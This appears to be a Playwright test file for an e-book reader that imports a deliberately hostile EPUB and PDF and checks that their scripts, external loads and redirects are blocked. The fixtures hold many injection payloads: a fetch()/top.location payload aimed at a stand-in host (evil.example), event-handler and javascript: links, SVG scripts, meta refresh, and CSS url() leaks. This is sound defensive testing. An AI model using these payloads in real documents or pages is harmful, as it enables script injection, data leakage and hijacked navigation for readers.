import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import type { FrameLocator, Page } from '@playwright/test';
import { signInAsLena } from '../harness/learner';
import { expect, test } from '../harness/test';
import type { Site } from '../harness/site';
import { texts } from '../harness/texts';
import { bookOf, hostilePage, pdfOf } from './hostilePdf';

const EVIL = 'https://evil.example';
const THEFT = `fetch('${EVIL}/script'); parent.document.title = 'taken'; top.location = '${EVIL}/top';`;

const CHAPTER = `<?xml version="1.0" encoding="utf-8"?>
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink" lang="en">
<head>
<title>One</title>
<base href="${EVIL}/base/" />
<meta http-equiv="refresh" content="0;url=${EVIL}/refresh" />
<link rel="stylesheet" href="${EVIL}/link.css" />
<link rel="stylesheet" href="book.css" />
<link rel="prefetch" href="${EVIL}/prefetch" /><link rel="preconnect" href="${EVIL}" />
<style>@import url("${EVIL}/import.css"); @font-face { font-family: x; src: url(${EVIL}/font); }
p { font-family: x; background: url('${EVIL}/background'); } p[title^="s"] { content: url(${EVIL}/leak); }</style>
<script>${THEFT}</script><script src="${EVIL}/script.js"></script><script src="inner.js"></script>
</head>
<body onload="${THEFT}" background="${EVIL}/body">
<h1>Quiet text</h1>
<p title="secret" style="background-image: url(${EVIL}/style)" onclick="${THEFT}">Press here</p>
<img src="${EVIL}/picture" onerror="${THEFT}" alt="" /><img src="picture.svg" alt="A picture" />
<img srcset="${EVIL}/set 1x" src="data:image/png;base64,x" onerror="${THEFT}" alt="" />
<iframe src="${EVIL}/frame"></iframe><iframe srcdoc="&lt;script&gt;${THEFT}&lt;/script&gt;"></iframe>
<object data="${EVIL}/object"></object><embed src="${EVIL}/embed" />
<video src="${EVIL}/video" poster="${EVIL}/poster" autoplay=""></video><audio src="${EVIL}/audio"></audio>
<form action="${EVIL}/form"><input name="a" value="b" /><button>Send the form</button></form>
<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><script>${THEFT}</script>
<image xlink:href="${EVIL}/image" href="${EVIL}/image2" width="9" height="9" /><use href="${EVIL}/use#a" />
<a xlink:href="javascript:fetch('${EVIL}/svg')"><text y="9">Drawn link</text></a>
<animate attributeName="href" values="javascript:1" /><rect width="9" height="9" fill="url(${EVIL}/fill)" /></svg>
<p><a href="javascript:fetch('${EVIL}/link')">Script link</a> <a href="${EVIL}/page" target="_top" ping="${EVIL}/ping">
Another site</a> <a href="two.xhtml">Next chapter</a></p>
</body></html>`;

const FILES: Record<string, string> = {
  'book.yaml': 'title: A hostile book\nsummary: Tries everything.\nauthors: [Mallory]\ntext: book.epub\n',
  'book.epub/mimetype': 'application/epub+zip',
  'book.epub/META-INF/container.xml':
    '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container" version="1.0"><rootfiles><rootfile ' +
    'full-path="package.opf" media-type="application/oebps-package+xml"/></rootfiles></container>',
  'book.epub/package.opf': `<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="i">
<metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="i">x</dc:identifier><dc:title>H</dc:title>
<dc:language>en</dc:language></metadata><manifest><item id="a" href="one.xhtml" media-type="application/xhtml+xml"/>
<item id="b" href="two.xhtml" media-type="application/xhtml+xml"/><item id="c" href="book.css" media-type="text/css"/>
<item id="d" href="picture.svg" media-type="image/svg+xml"/><item id="e" href="inner.js" media-type="text/javascript"/>
</manifest><spine><itemref idref="a"/><itemref idref="b"/></spine></package>`,
  'book.epub/one.xhtml': CHAPTER,
  'book.epub/two.xhtml': '<html xmlns="http://www.w3.org/1999/xhtml"><head/><body><h1>The end</h1></body></html>',
  'book.epub/book.css': `@import "${EVIL}/css"; h1 { background: url(${EVIL}/h1); cursor: url(${EVIL}/cur), auto; }`,
  'book.epub/picture.svg':
    `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><script>${THEFT}</script>` +
    `<image href="${EVIL}/inner" width="9" height="9"/><rect width="40" height="40" fill="teal"/></svg>`,
  'book.epub/inner.js': THEFT,
};

/** Imports the files as a book that needs no purchase. */
async function publishBook(site: Site, id: string, files: Record<string, string>): Promise<void> {
  const root = mkdtempSync(join(tmpdir(), 'lectern-hostile-'));
  for (const [name, content] of Object.entries(files)) {
    const file = join(root, 'books', id, name);
    mkdirSync(dirname(file), { recursive: true });
    writeFileSync(file, content);
  }
  await site.lectern('content', 'import', root);
  rmSync(root, { recursive: true });
}

/** Records requests to the other site, which are refused, and the files that frames of the page load. */
async function watchRequests(page: Page): Promise<{ evil: string[]; framed: string[] }> {
  const evil: string[] = [];
  const framed: string[] = [];
  await page.context().route(`${EVIL}/**`, (route) => {
    evil.push(route.request().url());
    return route.abort();
  });
  page.on('request', (request) => {
    if (request.frame() !== page.mainFrame() && /^https?:/.test(request.url()))
      framed.push(new URL(request.url()).pathname.replace(/^.*\//, ''));
  });
  return { evil, framed };
}

/** Watches a link of the book. The function that it resolves to returns the positions at which it was painted. */
async function watchPositions(book: FrameLocator, name: string): Promise<() => Promise<string[]>> {
  const positions = await book.locator(':root').evaluateHandle((_, text) => {
    const seen = new Set<string>();
    const watch = (): void => {
      const link = Array.from(document.links).find(({ innerText }) => innerText.includes(text));
      if (link?.checkVisibility({ visibilityProperty: true })) seen.add(JSON.stringify(link.getBoundingClientRect()));
      requestAnimationFrame(watch);
    };
    watch();
    return seen;
  }, name);
  return () => positions.evaluate((seen) => [...seen]);
}

async function expectUntouched(page: Page): Promise<void> {
  expect(new URL(page.url()).pathname, 'the page stayed').toBe('/books');
  expect(await page.title()).not.toContain('taken');
  expect(page.context().pages(), 'no window was opened').toHaveLength(1);
}

test('a hostile EPUB reaches nothing of the site and loads nothing', async ({ page, site, allow }) => {
  allow(/./);
  await publishBook(site, 'hostile', FILES);
  await signInAsLena(page);
  const { evil, framed } = await watchRequests(page);
  await page.goto('/books?read=hostile');
  const book = page.frameLocator('iframe');
  await expect(book.getByRole('heading', { name: 'Quiet text' })).toBeVisible();
  await expect(book.getByRole('img', { name: 'A picture' })).toBeVisible();
  await book.getByText('Press here').click();
  await book.getByText('Send the form').click();
  await book.getByText('Script link').click();
  await book.getByText('Drawn link').click({ force: true });
  await page.waitForTimeout(1_000);

  expect(evil, 'nothing was asked of another site').toEqual([]);
  expect(framed.sort(), 'the frame loads its page and its script').toEqual(['epub.html', 'epub.js']);
  await expectUntouched(page);
  const leftover = book.locator('script, iframe, object, embed, form, input, base, meta, [onclick], [onerror]');
  await expect(leftover, 'the policy has nothing left to refuse').toHaveCount(0);

  await book.getByText('Next chapter').click();
  await expect(book.getByRole('heading', { name: 'The end' })).toBeVisible();
  await page.setViewportSize({ width: 1280, height: 480 });
  const positions = await watchPositions(book, 'Another site');
  await page.getByRole('button', { name: texts.reader.previousPage }).click();
  await expect(page.getByRole('region', { name: texts.reader.tools }).getByText('Quiet text')).toBeVisible();
  expect(await positions(), 'links do not move once they can be pressed').toHaveLength(1);
  // The frame is removed, and may not confirm the click.
  void book
    .getByText('Another site')
    .click()
    .catch(() => undefined);
  await page.waitForURL(`**/warning?code=leaving&to=${encodeURIComponent(`${EVIL}/page`)}`);
  expect(evil).toEqual([]);
});

test('a hostile PDF runs nothing, loads nothing, and leads away only by a warning', async ({ page, site, allow }) => {
  allow(/./);
  await publishBook(site, 'hostile-pdf', bookOf(pdfOf(hostilePage(EVIL, THEFT))));
  await publishBook(site, 'endless-pdf', bookOf(pdfOf({ pages: 12_000 })));
  await signInAsLena(page);
  const { evil, framed } = await watchRequests(page);
  await page.goto('/books?read=hostile-pdf');
  const book = page.frameLocator('iframe');
  await expect(book.getByText('Quiet text')).toBeAttached();
  const links = book.getByRole('link');
  await expect(links).toHaveCount(5);
  const named = await links.evaluateAll((all) => all.map((link) => link.getAttribute('aria-label') ?? ''));
  expect(
    named.filter((name) => !name.startsWith(`${EVIL}/`)),
    'only addresses on the web',
  ).toEqual([]);
  await page.waitForTimeout(500);

  expect(evil, 'nothing was asked of another site').toEqual([]);
  expect(framed.sort()).toEqual(['pdf.html', 'pdf.js', 'pdf.worker.js']);
  await expectUntouched(page);
  const leftover = book.locator('script:not([src$="pdf.js"]), iframe, object, embed, form, input, audio, video, img');
  await expect(leftover).toHaveCount(0);

  // By keyboard: the links of the hostile page lie on each other. The key removes the frame, which may not confirm it.
  void book
    .getByRole('link', { name: `${EVIL}/page`, exact: true })
    .press('Enter')
    .catch(() => undefined);
  await page.waitForURL(`**/warning?code=leaving&to=${encodeURIComponent(`${EVIL}/page`)}`);
  await page.goto('/books?read=endless-pdf');
  await expect(page.getByRole('alert').getByText(texts.reader.fileTitle.broken)).toBeVisible();
  await expect(page.locator('iframe')).toHaveCount(0);
  expect(evil).toEqual([]);
});
